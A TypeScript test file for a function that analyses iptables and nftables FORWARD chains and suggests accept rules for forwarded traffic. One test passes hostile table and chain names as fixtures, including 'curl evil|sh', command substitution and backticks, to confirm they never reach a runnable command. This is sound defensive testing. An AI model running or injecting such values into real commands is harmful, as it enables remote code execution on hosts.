// What of a firewall's rules lets pass what labels forward, and what drops it for sure. The kernel's own bytes are in
// test/kernel/labels-firewalls.test.ts.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { type Forwarding, whyFiltered } from '../../../../src/labels/diff/foreign-firewall.js';
import { parsePattern } from '../../../../src/labels/spec/interface-pattern.js';
import { CT_STATE, type FilterRule, type ForwardChain } from '../../../../src/nft/filter-chain.js';

const { established, related, new: fresh, dnat } = CT_STATE;
const ACCEPT: FilterRule = { verdict: 'accept' };
const DROP: FilterRule = { verdict: 'drop' };
const by = (iif: string | undefined, oif: string | undefined, rule: FilterRule): FilterRule => ({
  ...rule,
  ...(iif !== undefined && { iif: parsePattern(iif) }),
  ...(oif !== undefined && { oif: parsePattern(oif) }),
});
const BACK: FilterRule = { ...ACCEPT, states: established | related };

const TUNNEL: Forwarding = { families: [4], outside: [parsePattern('wg+')], ingress: [] };
const ROUTER: Forwarding = { families: [4], outside: [parsePattern('eth+')], ingress: [] };
const PORTS: Forwarding = { families: [4], outside: [], ingress: [parsePattern('eth0')] };

function chain(rules: readonly FilterRule[], rest: Partial<ForwardChain> = {}): ForwardChain {
  const base = { family: 'ip', table: 'filter', name: 'FORWARD', isDropping: true } as const;
  return { ...base, rules, others: new Map(), ...rest };
}

for (const [what, forwarding, rules, isTold] of [
  ['nothing', TUNNEL, [], true],
  ['what comes back alone', TUNNEL, [BACK], true],
  ['what leaves alone', TUNNEL, [by(undefined, 'wg+', ACCEPT)], true],
  ['both', TUNNEL, [BACK, by(undefined, 'wg+', ACCEPT)], false],
  ['both, by one of the tunnels', TUNNEL, [BACK, by(undefined, 'wg0', ACCEPT)], false],
  ['both, by another tunnel', TUNNEL, [BACK, by(undefined, 'tun0', ACCEPT)], true],
  ['both, for some senders', TUNNEL, [BACK, { ...ACCEPT, isSelective: true }], false],
  ['both, behind a drop', TUNNEL, [BACK, DROP, ACCEPT], true],
  ['both, behind a drop for some', TUNNEL, [BACK, { ...DROP, isSelective: true }, ACCEPT], false],
  ['both, behind a drop of another link', TUNNEL, [BACK, by('tun0', undefined, DROP), ACCEPT], false],
  [
    'both ways by the name of the tunnel',
    TUNNEL,
    [by('wg+', undefined, ACCEPT), by(undefined, 'wg+', ACCEPT)],
    false,
  ],
  ['new connections by their state', TUNNEL, [{ ...ACCEPT, states: fresh | established }], false],
  ['both, from one network of Docker to another', ROUTER, [BACK, by('eth0', 'eth1', ACCEPT)], false],
  ['what comes back alone, of a router', ROUTER, [BACK], true],
  ['nothing, for ports', PORTS, [], true],
  ['what is translated', PORTS, [{ ...ACCEPT, states: established | related | dnat }], false],
  ['what is not translated', PORTS, [BACK], true],
  ['what comes in by another link', PORTS, [by('eth1', undefined, ACCEPT)], true],
  ['what comes in by the link', PORTS, [by('eth+', undefined, ACCEPT)], false],
] as const) {
  test(`a chain that drops all and accepts ${what} is ${isTold ? '' : 'not '}told`, () => {
    assert.equal(whyFiltered(forwarding, [chain(rules)]) !== undefined, isTold);
  });
}

const jump = (to: string, rest: Partial<FilterRule> = {}): FilterRule => ({
  ...rest,
  verdict: { chain: to },
});
for (const [what, rules, others, isTold] of [
  ['a jump to what accepts', [jump('a')], { a: [ACCEPT] }, false],
  ['a jump to what returns', [jump('a')], { a: [{ verdict: 'return' }, ACCEPT] }, true],
  ['a jump for others', [by('tun0', undefined, jump('a'))], { a: [ACCEPT] }, true],
  ['a jump for some to what drops', [jump('a', { isSelective: true }), ACCEPT], { a: [DROP] }, false],
  ['a jump to what drops', [jump('a'), ACCEPT], { a: [DROP] }, true],
  [
    'a goto, behind which all is accepted',
    [{ verdict: { chain: 'a', isGoto: true } }, ACCEPT],
    { a: [] },
    true,
  ],
  ['a jump to what is not there', [jump('b'), ACCEPT], {}, false],
  ['a circle', [jump('a')], { a: [jump('a')] }, false],
] as const satisfies readonly [string, FilterRule[], Record<string, FilterRule[]>, boolean][]) {
  test(`of a chain that drops all ${what} is followed`, () => {
    const found = whyFiltered(TUNNEL, [chain(rules, { others: new Map(Object.entries(others)) })]);
    assert.equal(found !== undefined, isTold);
  });
}

test('a chain whose packets would be taken to more rules than anybody can follow is not told', () => {
  const others = new Map(
    Array.from({ length: 40 }, (_, n): [string, FilterRule[]] => {
      const next = jump(`c${n + 1}`);
      return [`c${n}`, [next, next]];
    }),
  );
  assert.equal(whyFiltered(TUNNEL, [chain([jump('c0')], { others })]), undefined);
});

for (const [what, rest, forwarding, expected] of [
  [
    'iptables',
    {},
    TUNNEL,
    [
      'iptables -I FORWARD -o wg+ -j ACCEPT',
      'iptables -I FORWARD -m conntrack --ctstate ESTABLISHED,RELATED -j ACCEPT',
    ],
  ],
  [
    'the old iptables',
    { isLegacy: true },
    PORTS,
    ['iptables-legacy -I FORWARD -m conntrack --ctstate ESTABLISHED,RELATED,DNAT -j ACCEPT'],
  ],
  ['ip6tables where there is no IPv6', { family: 'ip6' }, TUNNEL, undefined],
  [
    'ip6tables',
    { family: 'ip6' },
    { ...PORTS, families: [4, 6] },
    ['ip6tables -I FORWARD -m conntrack --ctstate ESTABLISHED,RELATED,DNAT -j ACCEPT'],
  ],
  [
    'nftables',
    { family: 'inet', table: 'fw', name: 'f' },
    PORTS,
    [
      'nft insert rule inet fw f ct state established,related accept',
      'nft insert rule inet fw f ct status dnat accept',
    ],
  ],
  ['a chain that accepts', { isDropping: false }, TUNNEL, undefined],
] as const satisfies readonly [string, Partial<ForwardChain>, Forwarding, readonly string[] | undefined][]) {
  test(`the lines for ${what} let pass what is asked for, and nothing else`, () => {
    const why = whyFiltered(forwarding, [chain([], rest)]);
    assert.deepEqual(why?.split('firewall is up: ')[1]?.split('; '), expected);
    if (why) assert.match(why, /^[\x20-\x7e]*$/);
  });
}

for (const [table, name] of [
  ['f";curl evil|sh;"', 'f'],
  ['fw', 'x$(touch pwned)'],
  ['fw', '`id`'],
  ['fw\u001b', 'f'],
  ['fw', 'a b'],
  ['fw', ''],
  ['fw', '-f'],
  ['fw', 'f'.repeat(61)],
] as const) {
  test(`no line to run has a name that a container has chosen for a shell: ${JSON.stringify([table, name])}`, () => {
    const why = whyFiltered(PORTS, [chain([], { family: 'inet', table, name })])!;
    assert.doesNotMatch(why, /nft insert|\p{Cc}/u);
    assert.match(
      why,
      /have the container itself accept that: its chains have names for which no line can be given$/,
    );
  });
}

test('of many chains and interfaces all together are taken to 4096 rules, and then nothing is told', () => {
  const rules = Array.from({ length: 600 }, () => by('tun0', undefined, ACCEPT));
  const chains = Array.from({ length: 8 }, (_, n) => chain(rules, { name: `f${n}` }));
  assert.match(whyFiltered(TUNNEL, chains.slice(0, 2)) ?? '', /drops what its labels forward/);
  assert.equal(whyFiltered(TUNNEL, chains), undefined);
});
